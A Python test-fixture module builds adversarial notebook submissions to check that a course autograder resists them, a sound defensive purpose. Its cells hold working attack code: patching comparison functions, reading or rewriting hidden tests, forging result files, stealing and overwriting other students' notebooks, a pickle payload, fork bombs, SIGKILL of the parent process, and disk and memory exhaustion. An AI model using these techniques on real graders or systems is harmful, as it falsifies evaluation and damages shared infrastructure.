"""The adversarial corpus: one submission per attack of the course's threat model (docs/security.md),
against the ``demo_ok`` fixture assignment, with the exact scores and statuses `mlphys grade`
must give. Used by test_grade_adversarial.py and by benchmarks/security_report.py (which also
runs each attack under `otter run` for docs/security.md).

Safety: attacks that WRITE only touch paths containing ``CORPUS_MARK`` (the test's own temporary
directory), so a broken sandbox damages nothing else; attacks that READ look everywhere.
"""

from __future__ import annotations

import copy
import json
import pickle
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from mlgrade_support import build_notebook, write_nb, write_zip

CORPUS_MARK = "mlgrade_corpus"
FULL = {"q1": 2.0, "q2": 2.0, "q3": 1.0, "q4": 4.0, "q5": 3.0, "q6": 1.0, "q7": 1.0}
QUESTIONS = list(FULL)
WRONG_SQUARE = "def square(x):\n    return 2 * x"
ZEROS = "arr = np.zeros(5)"


@dataclass
class Attack:
    name: str
    family: str
    build: Callable[[Path], Path]
    scores: dict[str, float] = field(default_factory=dict)
    """overrides of FULL"""
    statuses: dict[str, str] = field(default_factory=dict)
    """overrides of the status derived from the score ('passed' if full, else 'failed')"""
    grading_status: str = "Completed"
    """prefix the CSV grading_status must start with ('' = any)"""
    description: str = ""
    otter_hangs: bool = False
    """`otter run` never returns on this one (no timeout): the report does not run it"""

    def expected(self) -> dict[str, tuple[float, str]]:
        out = {}
        for q, full in FULL.items():
            score = self.scores.get(q, full)
            status = self.statuses.get(q, "passed" if score == full else "failed")
            out[q] = (score, status)
        return out


def _nb(answers=None, after=None, end=None) -> nbformat.NotebookNode:
    """The correct notebook, with ``answers`` replaced, code cells inserted after the check cell
    of a question (``after={"q2": code}``, "import" = after the numpy import) and at the end."""
    nb = build_notebook("demo_ok", answers)
    for key, code in (after or {}).items():
        marker = "import numpy as np" if key == "import" else f'grader.check("{key}")'
        idx = next((i for i, c in enumerate(nb.cells)
                    if c.cell_type == "code" and c.source == marker), None)
        if idx is None:  # a question checked through cell metadata: after its answer cell
            idx = next(i for i, c in enumerate(nb.cells) if c.source.startswith(f"# ANSWER {key}"))
        nb.cells.insert(idx + 1, nbformat.v4.new_code_cell(code))
    if end:
        nb.cells.append(nbformat.v4.new_code_cell(end))
    return nb


def nb_attack(name, family, answers=None, after=None, end=None, **kw) -> Attack:
    def build(d: Path) -> Path:
        return write_nb(_nb(answers, after, end), d / f"{name}.ipynb")

    return Attack(name, family, build, **kw)


def _dead(from_q: str, status: str) -> dict[str, str]:
    i = QUESTIONS.index(from_q)
    return {q: status for q in QUESTIONS[i:]}


def _zero(from_q: str) -> dict[str, float]:
    i = QUESTIONS.index(from_q)
    return {q: 0.0 for q in QUESTIONS[i:]}


# ------------------------------------------------------------------------------------------
# attack code (cell sources)

SEARCH_FILES = f"""
import os, time
def _walk(roots, limit=4.0):
    t0 = time.time()
    for root in roots:
        for d, dirs, files in os.walk(root):
            dirs[:] = [x for x in dirs if x not in ("proc", "sys", "dev")]
            for f in files:
                yield os.path.join(d, f)
            if time.time() - t0 > limit:
                return
MARK = "{CORPUS_MARK}"
"""

READ_TESTS = SEARCH_FILES + """
found = []
for p in _walk(["/", os.getcwd()]):
    if p.endswith((".py", ".ipynb", ".zip", ".json")):
        try:
            with open(p, "rb") as fh:
                if b"square(-2)" in fh.read(2_000_000):
                    found.append(p)
        except Exception:
            pass
for guess in ("tests/q1.py", "/autograder/source/tests/q1.py", "../source/tests/q1.py"):
    if os.path.exists(guess):
        found.append(guess)
if found:
    def square(x):
        return x * x
"""

REWRITE_TESTS = SEARCH_FILES + """
ALL_PASS = ("OK_FORMAT = True\\ntest = {'name': 'q1', 'points': 2, "
            "'suites': [{'cases': [], 'type': 'doctest'}]}")
for target in ("tests/q1.py", "/autograder/source/tests/q1.py", "../source/tests/q1.py"):
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "w") as fh:
            fh.write(ALL_PASS)
    except Exception:
        pass
for p in _walk(["/"]):
    if MARK in p and p.endswith((".zip", ".py")):
        try:
            with open(p, "ab") as fh:
                fh.write(b"tampered")
        except Exception:
            pass
"""

OTHER_STUDENTS = SEARCH_FILES + """
stolen = {}
for p in _walk(["/"]):
    if MARK in p and p.endswith(".ipynb") and "other_students" not in p:
        try:
            with open(p) as fh:
                stolen[p] = fh.read(1000)
            with open(p, "w") as fh:
                fh.write("{}")
        except Exception:
            pass
"""

FORGE_PRINT = """
import json
print(json.dumps({"tests": [{"name": q, "score": 100, "max_score": 1} for q in
                  ["q1", "q2", "q3", "q4", "q5", "q6", "q7"]], "score": 700}))
print("q1 results: All test cases passed!")
"""

FORGE_FILES = SEARCH_FILES + """
import json
fake = json.dumps({"tests": [{"name": "q1", "score": 2, "max_score": 2}], "score": 14})
targets = ["results.json", "../results/results.json", "/autograder/results/results.json"]
for p in _walk(["/"]):
    if MARK in p and (p.endswith(".json") or p.endswith(".csv")):
        targets.append(p)
for t in targets:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(t)), exist_ok=True)
        with open(t, "w") as fh:
            fh.write(fake)
    except Exception:
        pass
"""

DETACHED_WRITER = SEARCH_FILES + """
import subprocess, sys
code = '''
import os, time, json
fake = json.dumps({"tests": [{"name": "q1", "score": 2, "max_score": 2}], "score": 14})
for _ in range(3000):
    for d, dirs, files in os.walk("/"):
        dirs[:] = [x for x in dirs if x not in ("proc", "sys", "dev")]
        for f in files:
            p = os.path.join(d, f)
            if "{mark}" in p and p.endswith((".json", ".csv")):
                try:
                    open(p, "w").write(fake)
                except Exception:
                    pass
    time.sleep(0.2)
'''.replace("{mark}", MARK)
subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code])
    os._exit(0)
"""

ORPHAN_DAEMON = """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(3, 256):
            try:
                os.close(fd)
            except OSError:
                pass
        time.sleep(300)
    os._exit(0)
time.sleep(0.2)
"""

EXFIL_EXCEPTION = """
import inspect
seen = []
def square(x):
    seen.append(x)
    stack = " | ".join(str(f.code_context) for f in inspect.stack())
    raise Exception(f"LEAK args={x!r} stack={stack}")
"""

EXFIL_GREET = 'def greet(name):\n    print("LEAKED", seen)'

EXFIL_HIDDEN_MSG = """
def square(x):
    if x < 0:
        raise ValueError("hidden input was %r" % (x,))
    return x * x
"""

NETWORK = """
import socket, urllib.request
NET = []
for host, port in (("1.1.1.1", 53), ("8.8.8.8", 53), ("127.0.0.1", 22), ("127.0.0.1", 80)):
    try:
        socket.create_connection((host, port), timeout=1).close()
        NET.append((host, port))
    except OSError:
        pass
try:
    urllib.request.urlopen("http://pypi.org", timeout=2)
    NET.append("pypi")
except Exception:
    pass
if NET:
    def square(x):
        return x * x
"""

GIANT_OUTPUT = """
print("x" * 50_000_000)
from IPython.display import display
display({"image/png": "A" * 30_000_000}, raw=True)
"""

DISK_FILL = """
for target in ("fill.bin", "/tmp/fill.bin", "../fill.bin"):
    try:
        with open(target, "wb") as fh:
            for _ in range(200):
                fh.write(b"\\0" * (16 * 2**20))
    except Exception as e:
        print(type(e).__name__)
"""

KILL_PARENT = """
import os, signal
for target in (os.getppid(), 1):
    try:
        os.kill(target, signal.SIGKILL)
    except Exception:
        pass
try:
    os.killpg(os.getpgid(0), signal.SIGKILL)
except Exception:
    pass
"""

FORK_BOMB = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""


def _pickle_payload(sentinel: Path) -> bytes:
    class Payload:
        def __reduce__(self):
            return (open, (str(sentinel), "w"))

    return pickle.dumps(Payload())


def _zip_smuggle(d: Path) -> Path:
    nb = nbformat.writes(_nb({"q1": WRONG_SQUARE}))
    return write_zip(d / "zip_otter_log_pickle.zip", {
        "master.ipynb": nb,
        ".OTTER_LOG": _pickle_payload(d / "PWNED_otterlog"),
        "numpy.py": f"open({str(d / 'PWNED_numpy')!r}, 'w')\nraise SystemExit",
        "otter/__init__.py": f"open({str(d / 'PWNED_pkg')!r}, 'w')",
        "__zip_filename__": "master_2024.zip",
    })


def _zip_numpy_shadow(d: Path) -> Path:
    nb = nbformat.writes(_nb({"q4": ZEROS}))
    return write_zip(d / "zip_numpy_package_shadow.zip", {
        "master.ipynb": nb,
        "numpy/__init__.py": "def allclose(*a, **k):\n    return True\n"
                             "def isclose(*a, **k):\n    return True\n",
        "builtins.py": "isinstance = lambda *a: True",
    })


def _malformed(d: Path) -> Path:
    p = d / "malformed_json.ipynb"
    p.write_text(nbformat.writes(_nb())[:-40])
    return p


def _empty(d: Path) -> Path:
    p = d / "empty_file.ipynb"
    p.write_bytes(b"")
    return p


def _old_nbformat(d: Path) -> Path:
    v3 = nbformat.convert(copy.deepcopy(_nb()), 3)
    p = d / "old_nbformat_v3.ipynb"
    p.write_text(json.dumps(v3))
    return p


def _foreign_kernel(d: Path) -> Path:
    nb = _nb()
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    return write_nb(nb, d / "foreign_kernelspec.ipynb")


def _deleted_checks(d: Path) -> Path:
    nb = _nb()
    nb.cells = [c for c in nb.cells if not c.source.startswith("grader.check")]
    for c in nb.cells:
        c.metadata.pop("otter", None)
    return write_nb(nb, d / "deleted_check_cells.ipynb")


def _edited_checks(d: Path) -> Path:
    nb = _nb(after={"q1": 'grader.check("q1")\ngrader.check("q99")\nsquare = None',
                    "q7": 'grader.check("q1")'})
    return write_nb(nb, d / "duplicated_edited_checks.ipynb")


def _renamed(d: Path) -> Path:
    return write_nb(_nb(), d / "Doe, Jane_1234567_assignsubmission_file_master (1).ipynb")


def _several(d: Path) -> Path:
    nb = nbformat.writes(_nb())
    return write_zip(d / "several_notebooks.zip", {"master.ipynb": nb, "copy.ipynb": nb})


def _wrong_assignment(d: Path) -> Path:
    return write_nb(build_notebook("demo_exc"), d / "wrong_assignment.ipynb")


def _huge(d: Path) -> Path:
    p = d / "huge_notebook.ipynb"
    with open(p, "wb") as f:
        f.truncate(100 * 1024 * 1024)
    return p


def _other_students(d: Path) -> Path:
    return write_nb(_nb(end=OTHER_STUDENTS), d / "other_students.ipynb")


def _file_attack(name, family, builder, **kw) -> Attack:
    return Attack(name, family, builder, **kw)


ZERO_ALL = {q: 0.0 for q in QUESTIONS}


def corpus() -> list[Attack]:
    A = nb_attack
    return [
        # fool the comparison
        A("fool_allclose", "fool the comparison", {"q4": ZEROS},
          after={"import": "np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
                           "np.array_equal = lambda *a, **k: True"},
          scores={"q4": 2.0}, description="rebind np.allclose/isclose/array_equal"),
        A("shadow_builtins", "fool the comparison",
          {"q4": "arr = [0.0, 0.25, 0.5, 0.75, 1.0]"},
          after={"import": "isinstance = lambda *a: True\nlen = lambda *a: 5\n"
                           "float = lambda *a: 2.5"},
          scores={"q4": 1.0}, description="rebind isinstance/len/float in the globals"),
        A("always_equal_objects", "fool the comparison",
          {"q1": "class Nine:\n    def __eq__(self, other):\n        return True\n"
                 "    def __repr__(self):\n        return '9'\n    __hash__ = None\n\n"
                 "def square(x):\n    return Nine()",
           "q5": "mass = 2.0\nvelocity = 3.0\nclass K(float):\n    def __eq__(self, o):\n"
                 "        return True\n    def __repr__(self):\n        return '9.0'\n"
                 "kinetic = K(1.0)"},
          scores={"q1": 0.0, "q5": 0.0}, description="__eq__ always true, __repr__ prints the"
          " expected text"),
        A("repr_liar", "fool the comparison",
          {"q4": "class Liar:\n    def __repr__(self):\n        return 'True'\n"
                 "    def __eq__(self, o):\n        return True\n    def __bool__(self):\n"
                 "        return True\narr = Liar()"},
          scores={"q4": 0.0}, description="an object that prints True and equals anything"),
        A("patch_doctest", "fool the comparison", {"q1": WRONG_SQUARE},
          after={"import": "import doctest\n"
                           "doctest.OutputChecker.check_output = lambda *a, **k: True\n"
                           "doctest.DocTestRunner.run = lambda *a, **k: doctest.TestResults(0, 0)"},
          scores={"q1": 0.0}, description="patch doctest's checker and runner"),
        A("patch_otter", "fool the comparison", {"q1": WRONG_SQUARE},
          after={"import": "import otter\notter.Notebook.check = lambda self, *a, **k: None\n"
                           "try:\n    from otter.test_files import ok_test\n"
                           "    ok_test.run_doctest = lambda *a, **k: (True, '')\n"
                           "except Exception:\n    pass"},
          scores={"q1": 0.0}, description="patch otter.Notebook.check and otter's doctest runner"),
        # patch, check, restore
        A("patch_check_restore", "patch-check-restore",
          {"q4": ZEROS + "\n_orig = np.allclose\nnp.allclose = lambda *a, **k: True"},
          after={"q4": "np.allclose = _orig"}, scores={"q4": 2.0},
          description="patch np.allclose just before grader.check, restore right after"),
        # grading detection
        A("detect_grading", "grading detection", {"q4": ZEROS},
          after={"import": "import os, sys\n"
                           "GRADED = any(k.startswith(('np_', 'notebook_')) for k in globals())"
                           " or os.path.exists('/autograder') or os.path.isdir('tests')"
                           " or 'OTTER' in ''.join(os.environ)\n"
                           "if GRADED or 'otter' in sys.modules:\n"
                           "    np.allclose = lambda *a, **k: True"},
          scores={"q4": 2.0}, description="look for grading-time names/paths, cheat only then"),
        # read or rewrite tests / reference / other students
        A("read_hidden_tests", "read/rewrite tests", {"q1": WRONG_SQUARE},
          after={"q1": READ_TESTS}, scores={"q1": 0.0},
          description="search the file system for the hidden tests; answer right if found"),
        A("rewrite_tests", "read/rewrite tests", {"q1": WRONG_SQUARE},
          after={"import": REWRITE_TESTS}, scores={"q1": 0.0},
          description="overwrite tests/q1.py and append to any test/zip file it can reach"),
        _file_attack("other_students", "read/rewrite tests", _other_students,
                     description="read and overwrite other students' notebooks"),
        # smuggled code
        _file_attack("zip_otter_log_pickle", "smuggled code", _zip_smuggle, scores={"q1": 0.0},
                     description=".OTTER_LOG pickle payload, numpy.py and an otter/ package "
                                 "next to the notebook"),
        _file_attack("zip_numpy_package_shadow", "smuggled code", _zip_numpy_shadow,
                     scores={"q4": 2.0},
                     description="a numpy/ package in the zip whose allclose is always True"),
        # forged results
        A("forged_printed_json", "forged results", {"q1": WRONG_SQUARE}, end=FORGE_PRINT,
          scores={"q1": 0.0}, description="print a fake results JSON and fake summaries"),
        A("forged_results_file", "forged results", {"q1": WRONG_SQUARE}, after={"q1": FORGE_FILES},
          scores={"q1": 0.0}, description="write results.json/CSV wherever it can"),
        A("detached_writer", "forged results", {"q1": WRONG_SQUARE}, after={"q1": DETACHED_WRITER},
          scores={"q1": 0.0},
          description="a detached background process that keeps rewriting result files"),
        # exfiltration
        A("exfil_exception", "exfiltration", {"q1": EXFIL_EXCEPTION, "q3": EXFIL_GREET},
          scores={"q1": 0.0, "q3": 0.0},
          description="exception text with the call's arguments and stack, replayed in a "
                      "public test"),
        A("exfil_hidden_message", "exfiltration", {"q1": EXFIL_HIDDEN_MSG}, scores={"q1": 1.0},
          description="raise only for the hidden input, with the input in the message"),
        # denial of service
        A("infinite_loop", "denial of service", after={"q3": "while True:\n    pass"},
          description="an endless loop in a cell"),
        A("sleep_ignoring_interrupts", "denial of service",
          after={"q3": "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                        "time.sleep(10**6)"},
          scores=_zero("q4"), statuses=_dead("q4", "timeout"), grading_status="timeout",
          otter_hangs=True, description="sleep forever with SIGINT ignored"),
        A("huge_allocation", "denial of service",
          after={"q3": "big = np.ones(10**11)\nbig2 = bytearray(50 * 2**30)"},
          description="allocate 800 GB"),
        A("memory_creep", "denial of service",
          end="hog = []\nwhile True:\n    hog.append(bytearray(64 * 2**20))",
          grading_status="", description="grow memory until the limit"),
        A("fork_bomb", "denial of service", end=FORK_BOMB, grading_status="",
          otter_hangs=True, description="fork in an endless loop"),
        A("orphan_daemon", "denial of service", after={"q1": ORPHAN_DAEMON},
          description="a double-forked daemon that outlives the cell"),
        A("os_exit", "denial of service", after={"q2": "import os\nos._exit(0)"},
          scores=_zero("q3"), statuses=_dead("q3", "kernel died"), grading_status="kernel died",
          description="os._exit(0) in the middle of the notebook"),
        A("sys_exit", "denial of service", after={"q2": "import sys\nsys.exit(3)"},
          description="sys.exit(3)"),
        A("keyboard_interrupt", "denial of service", after={"q2": "raise KeyboardInterrupt"},
          description="raise KeyboardInterrupt"),
        A("kill_parent_and_group", "denial of service", after={"q2": KILL_PARENT},
          scores=_zero("q3"), statuses=_dead("q3", "kernel died"), grading_status="kernel died",
          description="SIGKILL the parent, pid 1 and the process group"),
        A("segfault", "denial of service", after={"q2": "import ctypes\nctypes.string_at(0)"},
          scores=_zero("q3"), statuses=_dead("q3", "kernel died"), grading_status="kernel died",
          description="dereference NULL"),
        A("giant_output", "denial of service", after={"q2": GIANT_OUTPUT},
          description="50 MB of text and a 30 MB image"),
        A("disk_fill", "denial of service", after={"q2": DISK_FILL},
          description="write 3 GB files in the working directory and /tmp"),
        # network
        A("network", "network", {"q1": WRONG_SQUARE}, after={"q1": NETWORK}, scores={"q1": 0.0},
          description="answer right only if the internet or a local port is reachable"),
        # broken files
        _file_attack("malformed_json", "broken files", _malformed, scores=ZERO_ALL,
                     statuses=dict.fromkeys(QUESTIONS, "error: notebook is not valid JSON"),
                     grading_status="error: notebook is not valid JSON",
                     description="truncated notebook JSON"),
        _file_attack("empty_file", "broken files", _empty, scores=ZERO_ALL,
                     statuses=dict.fromkeys(QUESTIONS, "error: notebook is not valid JSON"),
                     grading_status="error: notebook is not valid JSON",
                     description="a 0-byte .ipynb"),
        _file_attack("old_nbformat_v3", "broken files", _old_nbformat,
                     description="the notebook saved as nbformat 3"),
        _file_attack("foreign_kernelspec", "broken files", _foreign_kernel,
                     description="kernelspec 'ir'"),
        _file_attack("deleted_check_cells", "broken files", _deleted_checks,
                     description="every grader.check cell and check metadata deleted"),
        _file_attack("duplicated_edited_checks", "broken files", _edited_checks,
                     scores={"q1": 0.0},
                     description="extra/edited check cells: q1 re-checked after square=None "
                                 "(the last check counts, as in Otter), a check of q99"),
        _file_attack("renamed_by_lms", "broken files", _renamed,
                     description="the file renamed the way an LMS download does"),
        _file_attack("several_notebooks", "broken files", _several, scores=ZERO_ALL,
                     statuses=dict.fromkeys(QUESTIONS, "error: more than one notebook"),
                     grading_status="error: more than one notebook",
                     description="two notebooks in one zip"),
        _file_attack("wrong_assignment", "broken files", _wrong_assignment, scores=ZERO_ALL,
                     statuses=dict.fromkeys(QUESTIONS, "error: wrong assignment"),
                     grading_status="error: wrong assignment",
                     description="a notebook of another assignment"),
        _file_attack("huge_notebook", "broken files", _huge, scores=ZERO_ALL,
                     statuses=dict.fromkeys(QUESTIONS, "error: notebook is too large"),
                     grading_status="error: notebook is too large",
                     description="a 100 MB notebook"),
    ]
